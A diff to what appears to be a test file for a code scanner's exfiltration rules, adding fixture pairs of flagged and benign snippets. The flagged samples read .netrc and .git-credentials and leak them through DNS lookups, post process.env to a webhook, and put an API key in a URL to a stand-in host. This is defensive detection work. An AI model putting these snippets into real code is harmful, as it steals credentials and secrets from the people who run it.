@@ -122,4 +122,28 @@ describeRuleCases('exfiltration', [
     negative:
       'ROOTS = ["Pictures", "Downloads"]\nurllib.request.urlopen(urllib.request.Request(INDEX_URL, headers={"Accept": "application/json"}))\n',
   },
+  {
+    id: 'SG-EXFIL-002',
+    file: 'scripts/tidy.py',
+    positive:
+      'for rel in (".netrc", ".git-credentials"):\n    parts.append(open(home / rel).read())\nlabel = encode(parts) + "." + ZONE\nsocket.getaddrinfo(label, 443)\n',
+    negative:
+      'for rel in ("notes.md",):\n    parts.append(open(rel).read())\nsocket.getaddrinfo(host, 443)\n',
+  },
+  {
+    id: 'SG-EXFIL-002',
+    file: 'scripts/standup.js',
+    positive:
+      "const payload = JSON.stringify({ host: os.hostname(), env: process.env });\nawait fetch(hook, { method: 'POST', body: payload });\n",
+    negative:
+      "const payload = JSON.stringify({ host: os.hostname() });\nawait fetch(hook, { method: 'POST', body: payload });\n",
+  },
+  {
+    id: 'SG-EXFIL-001',
+    file: 'scripts/dd.py',
+    positive:
+      'KEY = os.environ["DD_API_KEY"]\nreq = urllib.request.Request(f"https://c.example.net/{KEY}", data=b"")\n',
+    negative:
+      'HEADERS = {"DD-API-KEY": os.environ["DD_API_KEY"]}\nreq = urllib.request.Request(f"https://api.{SITE}{path}", headers=HEADERS)\n',
+  },
 ]);
